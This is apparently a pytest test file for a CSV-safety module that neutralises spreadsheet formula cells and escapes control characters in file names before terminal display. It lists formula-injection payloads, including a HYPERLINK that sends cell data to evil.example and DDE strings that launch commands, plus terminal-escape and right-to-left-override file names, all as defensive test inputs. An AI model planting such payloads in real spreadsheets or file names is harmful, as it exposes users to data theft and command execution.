"""app.safe_csv: formula cells neutralised in CSV, names escaped for terminals (issue 12)."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from app.safe_csv import neutralise, neutralise_row, printable_name, restore

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_written_as_text_and_read_back_exactly(payload):
    buf = io.StringIO()
    writer = csv.DictWriter(buf, ["name", "text", "score"])
    writer.writerow(neutralise_row({"name": "contract.pdf", "text": payload, "score": 0.5}))
    row = next(csv.reader(io.StringIO(buf.getvalue())))
    assert row == ["contract.pdf", "'" + payload, "0.5"]
    assert restore(row[1]) == payload


@pytest.mark.parametrize("value", ["-0.5", "+3", "1e-3", "-12", 7, -1.5, None, "", "Section 12.3", "a=b"])
def test_plain_values_and_numbers_are_left_alone(value):
    assert neutralise(value) == value
    assert restore(neutralise(value)) == value


def test_a_cell_that_starts_with_an_apostrophe_survives_the_round_trip():
    for value in ("'quoted", "''", "'=x"):
        assert restore(neutralise(value)) == value


@pytest.mark.parametrize("name,shown", [
    ("a.pdf\nOK: all 12 files read", "a.pdf\\nOK: all 12 files read"),
    ("x\r\x1b[2Jcleared.pdf", "x\\r\\x1b[2Jcleared.pdf"),
    ("invoice\u202efdp.exe", "invoice\\u202efdp.exe"),  # right-to-left override: shows as "invoiceexe.pdf"
    ("a\x9bb", "a\\x9bb"),  # C1 control (CSI)
    ("line\u2028sep", "line\\u2028sep"),
    ("Vertrag über Haftung – 契約.pdf", "Vertrag über Haftung – 契約.pdf"),
])
def test_printable_name_escapes_what_would_forge_or_garble_a_line(name, shown):
    assert printable_name(name) == shown
    assert printable_name(Path(name)) == shown


def test_printable_name_shows_undecodable_bytes_of_a_file_name():
    assert printable_name(b"bad\xffname.txt") == "bad\\xffname.txt"
    printable_name(b"bad\xffname.txt").encode("utf-8")  # printable: no lone surrogate left
